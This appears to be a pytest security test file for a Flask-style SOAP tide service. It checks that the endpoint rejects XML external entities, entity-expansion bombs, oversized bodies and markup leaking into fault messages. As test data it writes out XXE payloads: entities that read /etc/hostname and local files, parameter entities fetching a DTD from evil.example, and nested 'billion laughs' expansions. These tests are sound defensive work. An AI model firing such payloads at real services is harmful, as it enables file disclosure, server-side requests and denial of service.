import pytest

ENVELOPE = '{}<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><GetTides><Harbour>{}</Harbour></GetTides></s:Body></s:Envelope>'


@pytest.fixture(scope="module")
def client():
    return create_app({"Brest": ["06:12"], "canary": ["00:00"]}).test_client()


def call(client, declared, harbour="&x;", encoding="utf-8"):
    text = ENVELOPE.format(f"<!DOCTYPE e {declared}>", harbour)
    return client.post("/soap", data=text.encode(encoding))


ENTITIES = [
    '[<!ENTITY x "canary">]', '[<!ENTITY y "can"><!ENTITY x "&y;ary">]', '[<!ENTITY x SYSTEM "file:///etc/hostname">]', '[<!ENTITY x PUBLIC "p" "http://evil.example/">]', '[<!ENTITY % p "x">]',
    "[<!ENTITY x '<b>canary</b>'>]", '[<!ENTITY x "Brest">]', '[<!ENTITY % p SYSTEM "http://evil.example/t.dtd">]',
]


@pytest.mark.parametrize("declared", ENTITIES)
def test_entities_are_refused(client, declared):
    for harbour in ("&x;", "Brest", "a &x; b"):
        answer = call(client, declared, harbour)
        assert answer.status_code == 400, f"XXE: a document with {declared} was answered with {answer.status_code}"
        assert "canary" not in answer.text, f"XXE: an entity was expanded: {answer.text[:80]}"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig"])
def test_other_encodings(client, encoding):
    answer = call(client, '[<!ENTITY x "canary">]', encoding=encoding)
    assert answer.status_code == 400, f"XXE: an entity in {encoding} was taken"


def test_files_are_not_read(client, tmp_path):
    (tmp_path / "private.txt").write_text("canary")
    (tmp_path / "t.dtd").write_text('<!ENTITY x "canary">')
    for declared in (f'[<!ENTITY x SYSTEM "{tmp_path}/private.txt">]', f'[<!ENTITY x SYSTEM "file://{tmp_path}/private.txt">]', f'[<!ENTITY % p SYSTEM "{tmp_path}/t.dtd"> %p;]'):
        answer = call(client, declared)
        assert answer.status_code == 400 and "canary" not in answer.text, f"XXE: {declared} gave {answer.text[:80]}"
    assert "canary" not in call(client, f'SYSTEM "{tmp_path}/t.dtd"').text, "XXE: a document type was read from a file"


@pytest.mark.parametrize("levels", [3, 5])
def test_bombs(client, levels):
    lines = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, levels + 1))
    answer = call(client, f'[<!ENTITY e0 "ha">{lines}]', f"&e{levels};")
    assert answer.status_code == 400, f"XXE: entities multiply to {len(answer.data)} bytes"
    assert len(answer.data) < 1000, f"XXE: entities multiply to {len(answer.data)} bytes"


def test_long_entity_many_times(client):
    answer = call(client, '[<!ENTITY x "' + "a" * 5000 + '">]', "&x;" * 300)
    assert answer.status_code == 400 and len(answer.data) < 1000, "XXE: a long entity is used many times"


@pytest.mark.parametrize("size", [20_001, 21_000, 24_000, 300_000])
def test_size(client, size):
    body = ENVELOPE.format("", "Brest")
    answer = client.post("/soap", data=body.replace("Brest", "Brest" + " " * (size - len(body))).encode())
    assert answer.status_code == 413, f"resource consumption: a document of {size} bytes was read"


def test_faults_show_no_markup(client):
    answer = client.post("/soap", data=ENVELOPE.format("", "<![CDATA[<b>x</b>]]>").encode())
    assert "<b>" not in answer.text, f"markup came through: {answer.text}"
